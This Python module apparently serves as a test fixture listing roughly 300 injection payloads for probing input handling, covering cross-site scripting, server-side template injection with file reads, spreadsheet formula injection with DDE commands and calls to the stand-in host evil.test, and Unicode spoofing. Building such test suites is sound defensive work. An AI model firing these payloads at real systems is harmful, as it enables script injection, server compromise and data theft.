"""What an attacker would write into a box: some 300 payloads in seven families, each with a mark to be known by.

After the OWASP Web Security Testing Guide 4.2 (4.7.1, 4.7.2, 4.7.18) and the PortSwigger cheat sheet on cross-site
scripting. Code calls `ran(n)`, elements carry `data-planted`, and sums come to `EVALUATED`, which stands nowhere else.
"""

from collections.abc import Mapping
from itertools import product

EVALUATED = str(7191 * 977)
"""What every sum of the templates comes to, should anything work it out."""

OUT_OF = ("", '">', "'>", "`>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</select>", "</svg>")
"""Ways out of where a text might stand."""

ELEMENTS = (
    "<script data-planted>ran({n})</script>",
    "<ScRiPt data-planted src=//evil.test/{n}.js></sCrIpT>",
    "<img data-planted src=x onerror=ran({n})>",
    "<svg data-planted/onload=ran({n})>",
    "<svg data-planted><script>ran({n})</script></svg>",
    "<iframe data-planted srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<iframe data-planted src=javascript:parent.ran({n})></iframe>",
    "<details data-planted open ontoggle=ran({n})>",
    "<input data-planted autofocus onfocus=ran({n})>",
    "<video data-planted><source onerror=ran({n})></video>",
    "<math data-planted><mi xlink:href=javascript:ran({n})>x</mi></math>",
    "<a data-planted href=javascript:ran({n})>x</a>",
    "<object data-planted data=//evil.test/{n}></object>",
    "<link data-planted rel=stylesheet href=//evil.test/{n}.css>",
    "<meta data-planted http-equiv=refresh content='0;url=//evil.test/{n}'>",
    "<base data-planted href=//evil.test/{n}/>",
    "<form data-planted action=//evil.test/{n}><button>x</button></form>",
    "<style data-planted>@import '//evil.test/{n}.css';</style>",
)

EVENTS = ("onmouseover", "onfocus", "onpointerenter", "onanimationstart", "onbeforeinput", "onload")
QUOTES = ('"', "'", "`", " ")

URLS = (
    "javascript:ran({n})",
    "JaVaScRiPt:ran({n})",
    "java\tscript:ran({n})",
    "\x01javascript:ran({n})",
    " javascript:ran({n})",
    "javascript://%0aran({n})",
    "javascript&colon;ran({n})",
    "jav&#x61;script:ran({n})",
    "vbscript:ran({n})",
    "data:text/html,<script data-planted>ran({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4={n}",
    "//evil.test/{n}",
    "https:evil.test/{n}",
    "/\\evil.test/{n}",
    "blob:https://evil.test/{n}",
    "file:///etc/passwd?{n}",
)

SCRIPTS = (
    "';ran({n})//",
    '";ran({n})//',
    "'-ran({n})-'",
    '"-ran({n})-"',
    "\\';ran({n})//",
    "${{ran({n})}}",
    "`;ran({n})//",
    "*/ran({n})/*",
    "\u2028ran({n})//",
    "\\u003cscript data-planted\\u003eran({n})\\u003c/script\\u003e",
    "<!--<script data-planted>ran({n})//-->",
    "</script><script data-planted>ran({n})</script>",
    '{{"__proto__": {{"planted": "ran({n})"}}}}',
    ");ran({n});(",
)

TEMPLATES = (
    "{{{{7191*977}}}}{n}",
    "{{{{ 7191 * 977 }}}}{n}",
    "{{%print(7191*977)%}}{n}",
    "{{%- set x=7191*977 -%}}{{{{x}}}}{n}",
    "{{# {n} #}}7191*977",
    "${{7191*977}}{n}",
    "#{{7191*977}}{n}",
    "*{{7191*977}}{n}",
    "@(7191*977){n}",
    "@{{7191*977}}{n}",
    "{{7191*977}}{n}",
    "<%= 7191*977 %>{n}",
    "<?= 7191*977 ?>{n}",
    "[[${{7191*977}}]]{n}",
    "#set($x=7191*977)$x{n}",
    "{{{{config}}}}{n}",
    "{{{{''.__class__.__mro__}}}}{n}",
    "{{{{request.application.__globals__}}}}{n}",
    "{{0.__class__}}{n}",
    "{{outcome.__class__}}{n}",
    "{{{{outcome}}}}{n}",
    "%(outcome)s %s %n {n}",
    '#eval("7191*977"){n}',
    "#(7191*977){n}",
    '#read("/etc/passwd"){n}',
    "#panic({n})",
    "\\begin{{document}}\\input{{/etc/passwd}}{n}",
)

CELLS = (
    "=7191*977+{n}",
    "+7191*977+{n}",
    "-7191*977+{n}",
    "@SUM(7191*977;{n})",
    "\t=7191*977+{n}",
    " =7191*977+{n}",
    '=HYPERLINK("https://evil.test/{n}","Open")',
    "=cmd|' /C calc'!A{n}",
    '=WEBSERVICE("https://evil.test/{n}")',
    '=IMPORTXML("https://evil.test/{n}","//a")',
    "=DDE('cmd';'/C calc';'{n}')",
    '"=7191*977+{n}"',
    ";=7191*977+{n}",
    "＝7191*977+{n}",
)

LETTERS = (
    "＜script data-planted＞ran({n})＜/script＞",
    "‹script data-planted›ran({n})‹/script›",
    "<ſcript data-planted>ran({n})</ſcript>",
    "<ımg data-planted src=x onerror=ran({n})>",
    "<İmg data-planted src=x onerror=ran({n})>",
    "&lt;script data-planted&gt;ran({n})&lt;/script&gt;",
    "&#60;script data-planted&#62;ran({n})&#60;/script&#62;",
    "&amp;lt;script data-planted&amp;gt;ran({n})",
    "%3Cscript data-planted%3Eran({n})%3C/script%3E",
    "\\x3cscript data-planted\\x3eran({n})\\x3c/script\\x3e",
    "+ADw-script data-planted+AD4-ran({n})+ADw-/script+AD4-",
    "\u202egnp.exe{n}",
    "\u2066evil\u2069{n}",
    "a\u200bb\u200dc\ufeff{n}",
    "Ze\u0301\u0320\u0323\u0300\u0302\u0308{n}",
    "аdmіn{n}",
    "👩‍👩‍👧‍👦 {n}",
    "ﷺ {n}",
    "İıſK {n}",
    "<\u200bscript data-planted>ran({n})</script>",
)

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "element": tuple(before + element for before, element in product(OUT_OF, ELEMENTS)),
    "attribute": tuple(
        f"{quote} {event}=ran({{n}}) data-planted x={quote}" for quote, event in product(QUOTES, EVENTS)
    ),
    "url": URLS,
    "script": SCRIPTS,
    "template": TEMPLATES,
    "cell": CELLS,
    "unicode": LETTERS,
}
PAYLOADS: tuple[str, ...] = tuple(
    said.format(n=number) for number, said in enumerate(said for family in FAMILIES.values() for said in family)
)
"""All of them, each with its number in it."""


def of(family: str) -> tuple[str, ...]:
    """Those of one family."""
    first = sum(len(FAMILIES[name]) for name in list(FAMILIES)[: list(FAMILIES).index(family)])
    return PAYLOADS[first : first + len(FAMILIES[family])]


TWELVE = (
    *of("element")[:1],
    of("element")[len(ELEMENTS) + 2],
    of("element")[4 * len(ELEMENTS) + 3],
    of("attribute")[0],
    of("attribute")[len(EVENTS)],
    of("url")[0],
    of("script")[0],
    of("template")[0],
    of("template")[10],
    of("template")[22],
    of("cell")[0],
    of("unicode")[5],
)
"""A few of every family: what each run of the tests plants."""
